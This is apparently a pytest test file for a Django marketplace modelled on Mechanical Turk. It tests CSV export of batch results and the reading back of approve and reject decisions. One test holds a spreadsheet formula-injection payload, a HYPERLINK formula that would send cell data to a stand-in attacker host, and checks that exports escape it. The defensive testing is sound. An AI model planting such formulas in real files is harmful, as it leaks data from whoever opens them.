"""Results as MTurk's columns have them, and back again with decisions."""

import csv
import io
import tracemalloc
from datetime import UTC, datetime

import pytest
from django.utils import timezone

from marketplace import clock
from marketplace.batches import results
from marketplace.forms.sheets import RESULTS, SheetError
from marketplace.lifecycle import assignments
from marketplace.models import HIT, Batch, Holding, Place, Worker
from marketplace.money import ledger
from tests.batches import making
from tests.site import world

MTURK_HEAD = [
    "HITId",
    "HITTypeId",
    "Title",
    "Description",
    "Keywords",
    "Reward",
    "CreationTime",
    "MaxAssignments",
    "RequesterAnnotation",
    "AssignmentDurationInSeconds",
    "AutoApprovalDelayInSeconds",
    "Expiration",
    "NumberOfSimilarHITs",
    "LifetimeInSeconds",
    "AssignmentId",
    "WorkerId",
    "AssignmentStatus",
    "AcceptTime",
    "SubmitTime",
    "AutoApprovalTime",
    "ApprovalTime",
    "RejectionTime",
    "RequesterFeedback",
    "WorkTimeInSeconds",
    "LifetimeApprovalRate",
    "Last30DaysApprovalRate",
    "Last7DaysApprovalRate",
    "Input.question",
    "Input.image_url",
    "Answer.answer",
    "Answer.doubt",
    "Approve",
    "Reject",
]


@pytest.fixture
def batch(lab) -> Batch:
    return making.published(lab, places=2)


def answer(batch: Batch, worker: Worker, task: int, **fields: str) -> Holding:
    """The worker's answer to a task of the batch."""
    holding = world.take(worker, HIT.objects.get(batch=batch, batch_task__ordinal=task))
    return assignments.submit(holding=holding, fields=list(fields.items()))


def table(batch: Batch, shown: str = "all") -> list[dict[str, str]]:
    text = "".join(results.result_lines(batch, now=clock.now(), state=shown))
    return list(csv.DictReader(io.StringIO(text)))


def reviewed_file(rows: list[dict[str, str]], decisions: dict[str, tuple[str, str]]) -> str:
    """The table as somebody sends it back: Approve and Reject by assignment id."""
    out = io.StringIO()
    writer = csv.DictWriter(out, list(rows[0]))
    writer.writeheader()
    for row in rows:
        approve, reject = decisions.get(row["AssignmentId"], ("", ""))
        writer.writerow(row | {"Approve": approve, "Reject": reject})
    return out.getvalue()


NEEDED_ALONE = ["AssignmentId", "Approve", "Reject"]


def as_text(rows: list[dict[str, str]], columns: list[str]) -> str:
    """A CSV file of these columns."""
    out = io.StringIO()
    writer = csv.DictWriter(out, list(dict.fromkeys(columns)), extrasaction="ignore")
    writer.writeheader()
    writer.writerows(rows)
    return out.getvalue()


def read(text: str, batch: Batch) -> list[results.Decision]:
    decisions, _ = results.read_decisions(making.sheet(text, "r.csv", limits=RESULTS), batch)
    return decisions


def decide(batch: Batch, text: str, *, override: bool = False, once: str = "a") -> list[list[object]]:
    job = results.start_decisions(
        batch=batch, decisions=read(text, batch), file_name="r.csv", override=override, once=once
    )
    making.run_jobs()
    job.refresh_from_db()
    return job.result


def test_the_columns_are_mturks_in_their_order(batch, rosa, ben):
    answer(batch, rosa, 1, answer="a tree", doubt="none")
    answer(batch, ben, 2, answer="a house")
    [first, second] = table(batch)
    assert list(first) == MTURK_HEAD
    assert (first["Input.question"], first["Answer.answer"], first["Answer.doubt"]) == (
        "What is this?",
        "a tree",
        "none",
    )
    assert (second["Input.question"], second["Answer.answer"], second["Answer.doubt"]) == (
        "And this?",
        "a house",
        "",
    )
    assert first["Reward"] == "$0.10"
    assert first["AssignmentStatus"] == "Submitted"
    assert first["WorkerId"] == "AROSA"
    assert first["RequesterAnnotation"].startswith("BatchId:1;")
    assert first["LifetimeInSeconds"] == str(7 * 86_400)
    assert (first["Approve"], first["Reject"], first["ApprovalTime"]) == ("", "", "")
    created = HIT.objects.order_by("pk").first().created_at
    assert first["CreationTime"] == f"{created:%a %b %d %H:%M:%S} UTC {created:%Y}"


def test_nothing_that_people_wrote_is_run_by_a_spreadsheet(lab, rosa):
    batch = making.published(lab, "question,image_url\n=HYPERLINK(x),@x\n", title="=1+1", keywords="+1")
    answer(batch, rosa, 1, answer='=HYPERLINK("https://evil.example/"&A1)', **{"=name": "-1"})
    [row] = table(batch)
    assert row["Title"] == "'=1+1"
    assert row["Keywords"] == "'+1"
    assert row["Input.question"] == "'=HYPERLINK(x)"
    assert row["Input.image_url"] == "'@x"
    assert row["Answer.answer"] == '\'=HYPERLINK("https://evil.example/"&A1)'
    assert row["Answer.=name"] == "'-1"
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in [*row, *row.values()])


def test_approval_rates_count_decided_work_for_this_requester(lab, batch, rosa):
    world.approve(answer(batch, rosa, 1, answer="x"))
    world.reject(answer(batch, rosa, 2, answer="y"), "Empty.")
    elsewhere = world.make_requester("Elsewhere")
    world.reject(world.do(rosa, world.post(world.make_group(elsewhere))), "No.")
    rates = [row["LifetimeApprovalRate"] for row in table(batch)]
    assert rates == ["50% (1/2)", "50% (1/2)"]
    [row, _] = table(batch)
    assert row["Last7DaysApprovalRate"] == "50% (1/2)"


def test_ten_thousand_fields_of_a_hostile_answer_make_no_ten_thousand_columns(batch, rosa, ben):
    answer(batch, ben, 1, answer="honest")
    answer(batch, rosa, 1, answer="x", **{f"f{n:05}": "y" for n in range(9_000)})
    rows = table(batch)
    columns = [name for name in rows[0] if name.startswith("Answer.")]
    assert len(columns) == results.MAX_ANSWER_COLUMNS + 1
    assert "Answer.answer" in columns
    assert '"f08999": "y"' in rows[1][results.OTHER_ANSWERS]
    assert rows[0][results.OTHER_ANSWERS] == ""


def test_only_what_is_to_review_can_be_asked_for(batch, rosa, ben):
    world.approve(answer(batch, rosa, 1, answer="x"))
    answer(batch, ben, 1, answer="y")
    assert [row["WorkerId"] for row in table(batch, "submitted")] == ["ABEN"]


@pytest.mark.long
@pytest.mark.only_on("postgresql")  # whose rows come by cursors of the server
def test_ten_times_the_answers_need_no_more_memory(lab, rosa):
    batch = making.published(lab, making.rows(1))
    answer(batch, rosa, 1, answer="x" * 3_000)

    def peak() -> int:
        tracemalloc.start()
        for _ in results.result_lines(batch, now=clock.now()):
            pass
        used = tracemalloc.get_traced_memory()[1]
        tracemalloc.stop()
        return used

    multiply(Holding.objects.get(), 1_000)
    small = peak()
    multiply(Holding.objects.first(), 9_000)
    large = peak()
    assert len(table(batch)) == 10_001
    assert large < 1.5 * small


def multiply(holding: Holding, times: int) -> None:
    """The same answer by so many other people."""
    first = Worker.objects.count()
    numbers = range(first, first + times)
    now = timezone.now()
    workers = Worker.objects.bulk_create(
        Worker(worker_id=f"A{n}", name=f"worker {n}", created_at=now) for n in numbers
    )
    places = Place.objects.bulk_create(
        Place(hit=holding.hit, ordinal=n + 10, assignment_id=f"3A{n}") for n in numbers
    )
    Holding.objects.bulk_create(
        Holding(
            place=place,
            hit=holding.hit,
            requester=holding.requester,
            worker=worker,
            assignment_id=place.assignment_id,
            state=holding.state,
            accepted_at=holding.accepted_at,
            deadline=holding.deadline,
            submitted_at=holding.submitted_at,
            answer=holding.answer,
        )
        for worker, place in zip(workers, places, strict=True)
    )


def test_an_x_approves_and_a_reason_rejects_and_every_line_is_accounted_for(lab, batch, rosa, ben):
    good, bad = answer(batch, rosa, 1, answer="a"), answer(batch, ben, 1, answer="b")
    done, left = answer(batch, rosa, 2, answer="c"), answer(batch, ben, 2, answer="d")
    rows = table(batch)
    world.approve(done)
    text = reviewed_file(
        rows,
        {
            good.assignment_id: ("x", ""),
            bad.assignment_id: ("", "There is no answer."),
            done.assignment_id: ("X", ""),
        },
    )
    unknown = ",".join("3NOBODY" if name == "AssignmentId" else "x" * (name == "Approve") for name in rows[0])
    report = decide(batch, text + unknown + "\n")
    assert [line[2] for line in sorted(report)] == ["approved", "rejected", "already", "unknown"]
    assert [line[3] for line in report if line[2] == "already"] == ["It was approved before."]
    states = {holding.pk: holding for holding in Holding.objects.all()}
    assert states[good.pk].state == "approved"
    assert (states[bad.pk].state, states[bad.pk].feedback) == ("rejected", "There is no answer.")
    assert states[left.pk].state == "submitted"
    assert ledger.audit() == []


def test_a_rejection_is_turned_around_only_where_that_is_asked_for(batch, rosa):
    holding = world.reject(answer(batch, rosa, 1, answer="a"), "Too short.")
    text = reviewed_file(table(batch), {holding.assignment_id: ("x", "")})
    assert decide(batch, text)[0][2] == "already"
    assert decide(batch, text, override=True, once="b")[0][2] == "approved"
    [row] = table(batch)
    assert (row["AssignmentStatus"], row["RequesterFeedback"]) == ("Approved", "")
    assert ledger.audit() == []


def test_what_approved_itself_meanwhile_is_said(lab, rosa):
    batch = making.published(lab, auto_approval_s=0)
    holding = answer(batch, rosa, 1, answer="a")
    text = reviewed_file(table(batch), {holding.assignment_id: ("", "Late.")})
    assert decide(batch, text)[0][2:] == ["already", "It was approved automatically when its time was over."]


def test_decisions_made_twice_after_a_crash_are_reported_as_made_by_the_file(batch, rosa):
    holding = answer(batch, rosa, 1, answer="a")
    text = reviewed_file(table(batch), {holding.assignment_id: ("x", "")})
    job = results.start_decisions(
        batch=batch, decisions=read(text, batch), file_name="r", override=False, once="c"
    )
    world.approve(holding)
    making.run_jobs()
    job.refresh_from_db()
    assert job.result[0][2] == "approved"
    assert ledger.audit() == []


def test_a_table_that_was_sorted_in_part_decides_nothing(batch, rosa, ben, subtests):
    """Rows under the ids of other rows: in silence, the spam would be paid and the work rejected."""
    answer(batch, rosa, 1, answer="a tree")
    spam = answer(batch, ben, 2, answer="asdf")
    right = table(batch)
    decided = {"Approve": "x"}, {"Reject": "Spam."}
    marked = [row | decided[row["WorkerId"] == spam.worker.worker_id] for row in right]
    ids = [row["AssignmentId"] for row in right]
    mixed_up = [row | {"AssignmentId": other} for row, other in zip(marked, reversed(ids), strict=True)]
    columns = [["HITId"], ["WorkerId"], ["Answer.answer"], list(right[0])]
    for kept in columns:
        with subtests.test(kept=kept[:2]), pytest.raises(SheetError) as refused:
            read(as_text(mixed_up, [*kept, *NEEDED_ALONE]), batch)
        assert refused.value.message.startswith(f"r.csv, line 2, column {kept[0]}: it says '")
        assert "The cells of this row do not belong together: sort whole rows only." in refused.value.message
    assert len(read(as_text(marked, [*right[0]]), batch)) == 2
    without = as_text(mixed_up, NEEDED_ALONE)  # ids alone say nothing else
    assert len(read(without, batch)) == 2


def test_what_a_spreadsheet_writes_in_its_own_way_is_the_same_answer(batch, rosa):
    holding = answer(batch, rosa, 1, answer="007", sure="true", doubt="=1+1", more="two\nlines")
    [row] = table(batch)
    changed = row | {
        "Answer.answer": "7",
        "Answer.sure": "TRUE",
        "Answer.more": "two\r\nlines",
        "Approve": "x",
    }
    assert changed["Answer.doubt"] == "'=1+1"
    for doubt in ("'=1+1", "=1+1"):
        [decision] = read(as_text([changed | {"Answer.doubt": doubt}], [*row]), batch)
        assert (decision.assignment_id, decision.approves) == (holding.assignment_id, True)


def test_work_of_other_batches_is_unknown(lab, batch, rosa):
    other = making.published(lab)
    holding = answer(other, rosa, 1, answer="a")
    text = reviewed_file(table(other), {holding.assignment_id: ("x", "")})
    assert decide(batch, text)[0][2] == "unknown"


def test_a_file_that_is_not_right_is_refused_as_a_whole(db, subtests):
    for rows, sentence in [
        ("3A,yes,\n", "r.csv, line 2, column Approve: it says 'yes'. Write x to approve, or leave it empty."),
        (
            "3A,x,\n3B,x,Bad.\n",
            "r.csv, line 3, column Reject: the assignment is both approved and rejected. Empty one of the "
            "two cells.",
        ),
        (
            "3A,x,\n3A,,Bad.\n",
            "r.csv, line 3, column AssignmentId: line 2 decides about the same assignment. Keep one of the "
            "two.",
        ),
        (
            ",x,\n",
            "r.csv, line 2, column AssignmentId: there is a decision and no assignment's id beside it. Take "
            "the ids as the results have them.",
        ),
        *(
            (
                f"3A,,{word}\n",
                f"r.csv, line 2, column Reject: it says '{word}', which is no reason. Write the one that the "
                "worker will read, or leave it empty.",
            )
            for word in ("x", "NA", "-", "no", "FALSE")
        ),
        (
            f"3A,,{'x' * 1025}\n",
            "r.csv, line 2, column Reject: the reason has 1,025 characters; workers are shown at most 1,024.",
        ),
        (
            "3A,,\n",
            "r.csv: no line has an x under Approve or a reason under Reject, so there is nothing to do.",
        ),
    ]:
        with subtests.test(rows=rows, sentence=sentence):
            with pytest.raises(SheetError) as refused:
                read(f"AssignmentId,Approve,Reject\n{rows}", Batch(pk=0))
            assert refused.value.message == sentence


def test_a_file_without_the_columns_is_told_which_one_is_missing():
    with pytest.raises(SheetError) as refused:
        read("AssignmentId,Accept\n3A,x\n", Batch(pk=0))
    assert refused.value.message == (
        "r.csv, line 1: it has no column Approve; its columns are AssignmentId, Accept. Download the results "
        "of the batch and write into that file."
    )


def test_all_kinds_of_answers_become_fields():
    xml = (
        '<QuestionFormAnswers xmlns="x"><Answer><QuestionIdentifier>q</QuestionIdentifier>'
        "<SelectionIdentifier>a</SelectionIdentifier><SelectionIdentifier>b</SelectionIdentifier>"
        "<OtherSelectionText>mine</OtherSelectionText></Answer><Answer><QuestionIdentifier>t"
        "</QuestionIdentifier><FreeText>words</FreeText></Answer></QuestionFormAnswers>"
    )
    assert results.answer_fields(xml) == {"q": "a|b|mine", "t": "words"}
    assert results.answer_fields("no xml") == {}


def test_times_are_pacific_where_scripts_want_them_as_mturk_wrote_them():
    winter, summer = datetime(2026, 11, 22, 12, 0, 44, tzinfo=UTC), datetime(2026, 7, 1, 3, 4, 5, tzinfo=UTC)
    assert results.format_moment(winter) == "Sun Nov 22 12:00:44 UTC 2026"
    assert results.format_moment(winter, results.TIMES["pacific"]) == "Sun Nov 22 04:00:44 PST 2026"
    assert results.format_moment(summer, results.TIMES["pacific"]) == "Tue Jun 30 20:04:05 PDT 2026"
